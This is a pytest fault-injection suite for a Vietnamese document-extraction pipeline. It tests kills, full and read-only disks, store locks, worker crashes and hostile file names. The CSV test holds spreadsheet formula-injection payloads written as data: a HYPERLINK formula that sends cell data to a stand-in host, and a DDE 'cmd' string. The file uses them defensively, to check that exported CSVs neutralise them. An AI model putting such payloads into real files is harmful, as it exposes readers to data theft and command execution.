"""Fault injection on `vnextract run`: kills at random moments, full and read-only disks,
a locked store, workers dying while they load, Ctrl-C, hostile file names.

Whatever happens, every input ends exactly once in documents.jsonl or errors.jsonl, every
output file parses, and a failure of the environment leaves the previous outputs as they were.
"""
from __future__ import annotations

import csv
import json
import os
import random
import resource
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from benchmarks.synth import write_archive
from pipeline import exitcodes
from pipeline.batch import WORK_DIR
from pipeline.store import BUSY_TIMEOUT
from pipeline.watchdog import Result, Task, WorkerPool, WorkerStartError
from pipeline.writer import TMP_PREFIX

ROOT = Path(__file__).resolve().parent.parent
TABLES = ("documents", "officials", "criteria", "tasks", "refs")


# ---------------------------------------------------------------- helpers
def _command(src: Path, out: Path, *extra: str) -> list[str]:
    return [sys.executable, "-m", "vnextract", "run", str(src), "--out", str(out), "--workers", "2",
            *extra]


def _jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def _inputs(src: Path) -> list[str]:
    return sorted(os.fsdecode(p) for p in src.rglob("*") if p.is_file())


def _snapshot(out: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}


def _work_lines(out: Path) -> int:
    return sum(p.read_bytes().count(b"\n") for p in (out / WORK_DIR).glob("run-*.jsonl"))


def _check_outputs(src: Path, out: Path, db: Path | None = None) -> list[dict]:
    """Every input exactly once; every file parses; no work folder nor temporary file left."""
    docs, errors = _jsonl(out / "documents.jsonl"), _jsonl(out / "errors.jsonl")
    seen = [d["source"]["path"] for d in docs] + [e["path"] for e in errors]
    assert sorted(seen) == _inputs(src)
    for name in TABLES:
        assert pq.read_table(out / f"{name}.parquet") is not None
        with open(out / f"{name}.csv", encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.DictReader(fh))
        if name == "documents":
            # one row per document: the same text in several files is one document
            distinct = len({d["doc_id"] for d in docs})
            assert len(rows) == distinct == pq.read_table(out / "documents.parquet").num_rows
    if db is not None:
        conn = sqlite3.connect(db)
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        paths = [r[0] for r in conn.execute("SELECT path FROM documents")]
        assert len(paths) == len(set(paths))
        conn.close()
    assert not (out / WORK_DIR).exists()
    assert not list(out.glob(TMP_PREFIX + "*"))
    return docs


def _one_line_no_traceback(stderr: str) -> None:
    assert "Traceback" not in stderr, stderr
    assert len([line for line in stderr.splitlines() if line.startswith("vnextract run:")]) == 1, stderr


# ---------------------------------------------------------------- kill -9 at random moments
def _phase_reached(out: Path, phase: str) -> bool:
    """Whether a run is in `phase`: processing (work lines past a threshold), writing the
    tables (temporary table files, the store not open) or loading the store (its
    write-ahead log open while the staged outputs wait to be renamed)."""
    staged = any(".parquet." in p.name for p in out.glob(TMP_PREFIX + "*"))
    wal = (out / "records.sqlite-wal").exists()
    if phase == "tables":
        return staged and not wal
    if phase == "store":
        return staged and wal
    return (out / WORK_DIR).exists() and _work_lines(out) >= int(phase)


def test_sigkill_at_random_moments_then_resume_gives_every_input_once(tmp_path):
    src, out = tmp_path / "src", tmp_path / "out"
    write_archive(src, 1000, seed=5, min_chars=300, max_chars=900)
    (src / "batch00003" / "broken.docx").write_bytes(b"not a zip")
    (src / os.fsdecode(b"t\xean kh\xf4ng UTF-8.txt")).write_bytes("Giao xã Tân Dân báo cáo.".encode())
    rng = random.Random(16)
    phases = sorted(rng.sample(range(20, 950), 9)) + ["tables", "store"]
    kills = 0
    for phase in phases:
        proc = subprocess.Popen(_command(src, out, "--quiet", "--resume"), cwd=ROOT,
                                start_new_session=True, stderr=subprocess.PIPE, text=True)
        while proc.poll() is None and not _phase_reached(out, str(phase)):
            time.sleep(0.002)
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            kills += 1
        _, stderr = proc.communicate()
        assert "Traceback" not in stderr, stderr
    assert kills >= 10  # at most one phase may be missed by the polling
    final = subprocess.run(_command(src, out, "--resume"), cwd=ROOT, capture_output=True, text=True)
    assert final.returncode == exitcodes.SOME_FAILED, final.stderr  # broken.docx
    docs = _check_outputs(src, out, out / "records.sqlite")
    conn = sqlite3.connect(out / "records.sqlite")
    stored = {r[0] for r in conn.execute("SELECT doc_id FROM documents")}
    conn.close()
    assert stored == {d["doc_id"] for d in docs}  # variants with the same text share a doc_id


# ---------------------------------------------------------------- environment failures
@pytest.fixture(scope="module")
def small(tmp_path_factory) -> Path:
    src = tmp_path_factory.mktemp("small")
    write_archive(src, 12, seed=3, min_chars=500, max_chars=1_500)
    return src


def test_file_size_limit_mid_run_keeps_previous_outputs(small, tmp_path):
    """A disk that fills mid-run (here the file-size limit, same write error path)."""
    out = tmp_path / "out"
    assert subprocess.run(_command(small, out, "--quiet"), cwd=ROOT).returncode == 0
    before = _snapshot(out)
    bigger = tmp_path / "bigger"
    write_archive(bigger, 60, seed=4, min_chars=3_000, max_chars=6_000)
    limit = 64 * 1024

    def limit_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    run = subprocess.run(_command(bigger, out, "--quiet"), cwd=ROOT, capture_output=True, text=True,
                         preexec_fn=limit_files)
    assert run.returncode == exitcodes.ENVIRONMENT, run.stderr
    _one_line_no_traceback(run.stderr)
    assert "--resume" in run.stderr
    assert _snapshot(out) == before  # the previous outputs, byte for byte
    assert not list(out.glob(TMP_PREFIX + "*"))
    resumed = subprocess.run(_command(bigger, out, "--quiet", "--resume"), cwd=ROOT)
    assert resumed.returncode == 0
    _check_outputs(bigger, out)


def _mount_tmpfs(where: Path, size: str) -> bool:
    where.mkdir()
    return subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(where)],
                          capture_output=True).returncode == 0


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting a small file system needs root")
def test_disk_full_and_read_only_output_keep_previous_outputs(small, tmp_path):
    disk = tmp_path / "disk"
    if not _mount_tmpfs(disk, "24m"):
        pytest.skip("this machine does not allow mounting a tmpfs")
    try:
        out = disk / "out"
        assert subprocess.run(_command(small, out, "--quiet"), cwd=ROOT).returncode == 0
        before = _snapshot(out)
        big = tmp_path / "big"
        write_archive(big, 150, seed=9, min_chars=2_000, max_chars=4_000)
        run = subprocess.Popen(_command(big, out, "--quiet"), cwd=ROOT, stderr=subprocess.PIPE, text=True)
        while _work_lines(out) < 5:
            assert run.poll() is None
            time.sleep(0.01)
        _fill(disk / "filler")  # another program fills the disk mid-run
        _, stderr = run.communicate(timeout=120)
        full = subprocess.CompletedProcess(run.args, run.returncode, None, stderr)
        assert full.returncode == exitcodes.ENVIRONMENT, full.stderr
        _one_line_no_traceback(full.stderr)
        assert "No space left" in full.stderr
        assert _snapshot(out) == before
        (disk / "filler").unlink()

        subprocess.run(["mount", "-o", "remount,ro", str(disk)], check=True)
        ro = subprocess.run(_command(small, out, "--quiet"), cwd=ROOT, capture_output=True, text=True)
        assert ro.returncode == exitcodes.ENVIRONMENT, ro.stderr
        _one_line_no_traceback(ro.stderr)
        assert "Read-only" in ro.stderr and "nothing was processed" in ro.stderr
        assert _snapshot(out) == before
    finally:
        subprocess.run(["umount", "-l", str(disk)])


def _fill(path: Path) -> None:
    """Write to `path` until the file system is full."""
    with open(path, "wb", buffering=0) as fh:
        try:
            while True:
                fh.write(b"\0" * 2**20)
        except OSError:
            pass


@pytest.mark.parametrize("make_db", ["directory", "not-sqlite"])
def test_bad_store_fails_before_any_document(small, tmp_path, make_db):
    db = tmp_path / "store"
    if make_db == "directory":
        db.mkdir()
    else:
        db.write_bytes(b"these are not the pages of an SQLite database " * 100)
    started = time.monotonic()
    run = subprocess.run(_command(small, tmp_path / "out", "--db", str(db)), cwd=ROOT,
                         capture_output=True, text=True)
    assert run.returncode == exitcodes.ENVIRONMENT
    _one_line_no_traceback(run.stderr)
    assert str(db) in run.stderr and "nothing was processed" in run.stderr
    assert not (tmp_path / "out" / "documents.jsonl").exists()
    assert time.monotonic() - started < 10  # no document was processed first


def test_two_runs_into_one_locked_store_both_complete(tmp_path):
    first, second, db = tmp_path / "a", tmp_path / "b", tmp_path / "shared.sqlite"
    write_archive(first, 10, seed=21, min_chars=500, max_chars=1_500)
    write_archive(second, 10, seed=22, min_chars=500, max_chars=1_500)
    subprocess.run(_command(first, tmp_path / "warm", "--quiet", "--db", str(db), "--workers", "1"),
                   cwd=ROOT, check=True)  # creates the store
    holder = sqlite3.connect(db, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # another writer holds the store
    outs = [tmp_path / f"out-{src.name}" for src in (first, second)]
    runs = [subprocess.Popen(_command(src, out, "--db", str(db), "--workers", "1"), cwd=ROOT,
                             stderr=subprocess.PIPE, text=True) for src, out in zip((first, second), outs)]
    try:
        deadline = time.monotonic() + 120
        while not all(list(out.glob(TMP_PREFIX + "*.parquet.*")) for out in outs):  # both are loading
            assert all(p.poll() is None for p in runs) and time.monotonic() < deadline
            time.sleep(0.05)
        time.sleep(BUSY_TIMEOUT + 2)  # past one busy timeout: each run has waited and said so
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    results = [(p.wait(timeout=120), p.stderr.read()) for p in runs]
    for code, stderr in results:
        assert code == 0, stderr
        assert "Traceback" not in stderr
    assert all("locked by another writer; waiting (attempt 1/" in stderr for _, stderr in results)
    conn = sqlite3.connect(db)
    assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    paths = [r[0] for r in conn.execute("SELECT path FROM documents")]
    conn.close()
    assert sorted(paths) == sorted(_inputs(first) + _inputs(second))


# ---------------------------------------------------------------- workers that cannot start
def counting_work(task: Task) -> Result:
    if task.path == "crash":
        os._exit(3)
    return Result(task.seq, task.path, "D", None, json.dumps({"path": task.path}))


def flaky_init() -> None:
    """Dies while loading on the starts listed in $FLAKY_DEATHS (counted in $FLAKY_COUNTER)."""
    counter = Path(os.environ["FLAKY_COUNTER"])
    with open(counter, "a") as fh:
        fh.write("x")
    start = counter.stat().st_size
    if str(start) in os.environ["FLAKY_DEATHS"].split(","):
        os._exit(9)


def test_replacement_killed_while_loading_costs_one_document(tmp_path, monkeypatch):
    monkeypatch.setenv("FLAKY_COUNTER", str(tmp_path / "starts"))
    monkeypatch.setenv("FLAKY_DEATHS", "2,3")  # the busy worker's replacement, and its own
    names = ["a", "b", "crash", "c", "d", "e"]
    with WorkerPool(1, "tests.test_faults:counting_work", "tests.test_faults:flaky_init", 30) as pool:
        results = list(pool.imap(Task(i, n) for i, n in enumerate(names)))
    assert [r.path for r in results] == names
    assert [r.kind for r in results] == ["D", "D", "E", "D", "D", "D"]


def test_pool_goes_on_with_the_workers_it_has(tmp_path, monkeypatch):
    monkeypatch.setenv("FLAKY_COUNTER", str(tmp_path / "starts"))
    monkeypatch.setenv("FLAKY_DEATHS", ",".join(str(i) for i in range(2, 40)))  # only the first starts
    names = [f"doc{i}" for i in range(30)]
    with WorkerPool(2, "tests.test_faults:counting_work", "tests.test_faults:flaky_init", 30) as pool:
        results = list(pool.imap(Task(i, n) for i, n in enumerate(names)))
    assert [r.path for r in results] == names and {r.kind for r in results} == {"D"}
    assert (tmp_path / "starts").stat().st_size >= 2  # the second slot did die while loading


def test_pool_with_no_worker_able_to_start_stops(tmp_path, monkeypatch):
    monkeypatch.setenv("FLAKY_COUNTER", str(tmp_path / "starts"))
    monkeypatch.setenv("FLAKY_DEATHS", ",".join(str(i) for i in range(1, 40)))
    with WorkerPool(2, "tests.test_faults:counting_work", "tests.test_faults:flaky_init", 30) as pool:
        with pytest.raises(WorkerStartError):
            list(pool.imap(Task(i, "x") for i in range(5)))


# ---------------------------------------------------------------- Ctrl-C, fresh runs, temporaries
def test_ctrl_c_stops_cleanly_and_resume_continues(tmp_path):
    src, out = tmp_path / "src", tmp_path / "out"
    write_archive(src, 300, seed=8, min_chars=500, max_chars=1_500)
    proc = subprocess.Popen(_command(src, out, "--quiet"), cwd=ROOT, start_new_session=True,
                            stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not (out / WORK_DIR).exists() or _work_lines(out) < 30:
        assert proc.poll() is None and time.monotonic() < deadline
        time.sleep(0.01)
    os.killpg(proc.pid, signal.SIGINT)  # what a terminal's Ctrl-C sends
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == exitcodes.INTERRUPTED
    _one_line_no_traceback(stderr)
    kept = int(stderr.split("interrupted; ")[1].split()[0])
    assert kept >= 30 and "--resume" in stderr
    assert _work_lines(out) >= kept
    resumed = subprocess.run(_command(src, out, "--resume"), cwd=ROOT, capture_output=True, text=True)
    assert resumed.returncode == 0, resumed.stderr
    assert f"{kept} unchanged" in resumed.stderr or "unchanged" in resumed.stderr
    _check_outputs(src, out)


def test_killed_fresh_run_keeps_previous_outputs_and_leftovers_are_removed(small, tmp_path):
    out = tmp_path / "out"
    assert subprocess.run(_command(small, out, "--quiet", "--no-db"), cwd=ROOT).returncode == 0
    before = _snapshot(out)
    stale = out / f"{TMP_PREFIX}tasks.parquet.abc123"
    stale.write_bytes(b"half a table from a killed run")
    big = tmp_path / "big"
    write_archive(big, 300, seed=12, min_chars=500, max_chars=1_500)
    proc = subprocess.Popen(_command(big, out, "--quiet", "--no-db"), cwd=ROOT, start_new_session=True)
    while _work_lines(out) < 20:
        assert proc.poll() is None
        time.sleep(0.01)
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    assert not stale.exists()  # removed by the run that started after it
    assert _snapshot(out) == before  # the killed fresh run destroyed nothing
    resumed = subprocess.run(_command(big, out, "--quiet", "--no-db", "--resume"), cwd=ROOT)
    assert resumed.returncode == 0
    _check_outputs(big, out)  # only the fresh run's inputs: the older outputs did not leak in


# ---------------------------------------------------------------- hostile names and paths
def test_hostile_file_names_are_accounted_for_and_resumable(tmp_path):
    src, out = tmp_path / "src", tmp_path / "out"
    src.mkdir()
    names = [b"ok.txt", b"kh\xf4ng-utf8.txt", "đảo\u202etxt.exe.txt".encode(), b"esc\x1b[31mred.txt",
             b"tab\there.txt"]
    for i, name in enumerate(names):  # distinct texts: the store keeps one record per text
        with open(os.path.join(os.fsencode(src), name), "wb") as fh:
            fh.write(f"Giao UBND xã Tân Dân hoàn thành báo cáo số {i} trước ngày 30/6/2024.\n".encode())
    run = subprocess.run(_command(src, out), cwd=ROOT, capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    docs = _check_outputs(src, out, out / "records.sqlite")
    got = {os.fsencode(d["source"]["path"]) for d in docs}
    assert got == {os.path.join(os.fsencode(src), n) for n in names}  # fsencode gives the bytes back
    with open(out / "documents.csv", encoding="utf-8-sig", newline="") as fh:
        shown = [row["path"] for row in csv.DictReader(fh)]
    assert str(src / "kh\\xf4ng-utf8.txt") in shown
    again = subprocess.run(_command(src, out, "--resume"), cwd=ROOT, capture_output=True, text=True)
    assert again.returncode == 0 and f"{len(names)} unchanged" in again.stderr

    site = tmp_path / "site"
    subprocess.run([sys.executable, "-m", "vnextract", "report", "--db", str(out / "records.sqlite"),
                    "--out", str(site)], cwd=ROOT, check=True, capture_output=True)
    pages = "".join(p.read_text(encoding="utf-8") for p in site.rglob("*.html"))
    assert "\u202e" not in pages and "\x1b" not in pages
    assert "đảo\\u202etxt.exe.txt" in pages and "esc\\x1b[31mred.txt" in pages  # shown, spelled out
    audit = subprocess.run([sys.executable, "-m", "vnextract", "audit", "--db", str(out / "records.sqlite"),
                            "--overdue", "--as-of", "2030-01-01"], cwd=ROOT, capture_output=True, text=True)
    assert audit.returncode == 0 and "UBND xã Tân Dân" in audit.stdout
    assert "\x1b" not in audit.stdout and "\u202e" not in audit.stdout and "\\x1b[31m" in audit.stdout


def test_path_longer_than_path_max_becomes_an_error(tmp_path):
    src, out = tmp_path / "src", tmp_path / "out"
    src.mkdir()
    (src / "ok.txt").write_text("Giao xã Tân Dân báo cáo trước ngày 30/6/2024.", encoding="utf-8")
    fd = os.open(src, os.O_RDONLY)
    for _ in range(25):  # 25 × 201 bytes: past PATH_MAX (4096)
        os.mkdir("d" * 200, dir_fd=fd)
        inner = os.open("d" * 200, os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = inner
    with open(os.open("deep.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as fh:
        fh.write("Giao xã An Khánh báo cáo.")
    os.close(fd)
    run = subprocess.run(_command(src, out, "--no-db"), cwd=ROOT, capture_output=True, text=True)
    assert run.returncode == exitcodes.SOME_FAILED, run.stderr
    errors = _jsonl(out / "errors.jsonl")
    assert len(errors) == 1 and errors[0]["error"] == "unreadable-directory"
    assert "too long" in errors[0]["message"] and errors[0]["message"].startswith(str(src))
    assert "1 errors" in run.stderr


# ---------------------------------------------------------------- documented size limit
def test_oversized_text_is_refused_up_front(tmp_path, monkeypatch):
    import pipeline.process as process
    from pipeline.batch import process_task

    huge = tmp_path / "annex.txt"
    with open(huge, "wb") as fh:  # sparse: past the limit without writing 40 MB
        fh.truncate(process.MAX_TEXT_BYTES + 1)
    result = process_task(Task(0, str(huge)))
    error = json.loads(result.line)
    assert error["error"] == "too-large" and error["message"].startswith(str(huge))
    assert "split the file" in error["message"] and error["sha256"]  # resume skips it while unchanged

    monkeypatch.setattr(process, "MAX_TEXT_CHARS", 1_000)
    text = ("Giao UBND xã Tân Dân hoàn thành báo cáo trước ngày 30/6/2024.\n" * 40).encode()
    outcome = process.process_bytes(str(tmp_path / "long.txt"), text)
    assert outcome.error["error"] == "too-large" and "limit of 1,000 characters" in outcome.error["message"]


# ---------------------------------------------------------------- hostile contents
@pytest.mark.parametrize("action", ['=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")', "+84 912 345 678 gọi ngay",
                                    "-1+2 tiêu chí", "@SUM(A1:A9)", "\tthụt lề"])
def test_formula_leading_cells_are_neutralised_in_csv_only(tmp_path, action):
    from pipeline.writer import write_tables

    record = {"doc_id": "d1", "source": {"path": "=cmd|'/c calc'!A0.txt", "format": "txt", "sha256": "s",
                                         "pages": None},
              "text": action, "title": "Thông báo", "warnings": [], "officials": [], "criteria": [],
              "refs": [], "tasks": [{"task_id": "t1", "action": action, "span": [0, len(action)],
                                     "assignee": "UBND xã Tân Dân", "deadline": None}]}
    write_tables(tmp_path, lambda: iter([record]))
    with open(tmp_path / "tasks.csv", encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["action"] == "'" + action and row["assignee"] == "UBND xã Tân Dân"
    with open(tmp_path / "documents.csv", encoding="utf-8-sig", newline="") as fh:
        assert next(csv.DictReader(fh))["path"] == "'=cmd|'/c calc'!A0.txt"
    assert pq.read_table(tmp_path / "tasks.parquet").column("action").to_pylist() == [action]


def _windows_1258(text: str) -> bytes:
    """Bytes as old Windows-1258 archives hold them: base vowels precomposed, tones combining."""
    import unicodedata

    out = []
    for ch in text:
        decomposed = unicodedata.normalize("NFD", ch)
        tones = "".join(m for m in decomposed[1:] if m in "\u0300\u0301\u0303\u0309\u0323")
        rest = "".join(m for m in decomposed[1:] if m not in tones)
        out.append(unicodedata.normalize("NFC", decomposed[0] + rest) + tones)
    return "".join(out).encode("cp1258")


@pytest.mark.parametrize("text", [
    "Đồng chí Nguyễn Văn Hải, Phó Chủ tịch UBND xã Tân Dân kết luận cuộc họp.",
    "GIAO PHÒNG TÀI NGUYÊN VÀ MÔI TRƯỜNG HUYỆN HOÀN THÀNH TRƯỚC NGÀY 30/6/2024.",
    "Thị trấn Sao Mai đã đạt 15/19 tiêu chí; phấn đấu quý IV/2025 hoàn thành, kỹ lưỡng, đầy đủ.",
])
def test_windows_1258_with_combining_tones_reads_as_vietnamese(text):
    from pipeline.readers import decode_text

    decoded, warnings = decode_text("cu.txt", _windows_1258(text))
    assert decoded == text and warnings == ["cu.txt: not UTF-8, decoded as Windows-1258"]


def test_ctrl_c_under_dask_stops_cleanly_and_resume_continues(tmp_path):
    """Ctrl-C reaches the whole foreground group: the driver and the local Dask cluster's
    nannies and workers.  One line, exit 130, no traceback; a resume completes the run."""
    src, out = tmp_path / "src", tmp_path / "out"
    write_archive(src, 300, seed=9, min_chars=500, max_chars=1_500)
    proc = subprocess.Popen(_command(src, out, "--quiet", "--no-db", "--engine", "dask"), cwd=ROOT,
                            start_new_session=True, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not (out / WORK_DIR).exists() or _work_lines(out) < 40:
        assert proc.poll() is None and time.monotonic() < deadline
        time.sleep(0.05)
    os.killpg(proc.pid, signal.SIGINT)
    _, stderr = proc.communicate(timeout=120)
    assert proc.returncode == exitcodes.INTERRUPTED, stderr
    _one_line_no_traceback(stderr)
    kept = int(stderr.split("interrupted; ")[1].split()[0])
    assert kept >= 40 and "--resume" in stderr
    resumed = subprocess.run(_command(src, out, "--quiet", "--no-db", "--engine", "dask", "--resume"),
                             cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert resumed.returncode == 0, resumed.stderr
    docs, errors = _jsonl(out / "documents.jsonl"), _jsonl(out / "errors.jsonl")
    assert sorted([d["source"]["path"] for d in docs] + [e["path"] for e in errors]) == _inputs(src)
    assert not (out / WORK_DIR).exists()
